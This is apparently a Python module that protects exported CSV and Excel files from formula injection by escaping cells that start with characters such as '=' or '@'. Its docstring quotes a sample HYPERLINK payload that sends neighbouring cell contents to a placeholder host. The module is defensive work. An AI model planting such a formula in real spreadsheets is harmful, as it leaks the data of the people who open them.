"""Cells for the Excel and CSV files we hand out, safe from formula injection (CSV/DDE injection).

Text a person typed (an objection, an opinion, a name in an imported file) may start with `=`, `+`, `-`, `@`,
a tab or a carriage return; Excel and other spreadsheets would run it as a formula
(`=HYPERLINK("http://x/?"&A2,"详情")` sends the neighbouring cells away). Every writer passes its cells
through here: in CSV such text gets a leading apostrophe (the OWASP advice, shown by Excel as plain text);
in a workbook the cell is stored as a string, with Excel's quote prefix so editing it does not turn it into
a formula either. Numbers stay numbers, negative ones included, and so does text that is just a number."""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def is_formula_like(value: Any) -> bool:
    """Text a spreadsheet would read as a formula (a plain signed number like "-12.50" is not)."""
    return (isinstance(value, str) and value.startswith(FORMULA_START)
            and _PLAIN_NUMBER.fullmatch(value) is None)


def safe_cell(value: Any) -> Any:
    """A CSV cell: formula-like text gets a leading apostrophe; everything else is unchanged."""
    return "'" + value if is_formula_like(value) else value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def append_row(sheet, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet, formula-like text kept as text (data type 's', quote prefix)."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if is_formula_like(cell.value):
            cell.data_type = "s"
            cell.quotePrefix = True


def write_only_cell(sheet, value: Any):
    """A cell for a write-only openpyxl sheet (large exports), formula-like text kept as text."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell
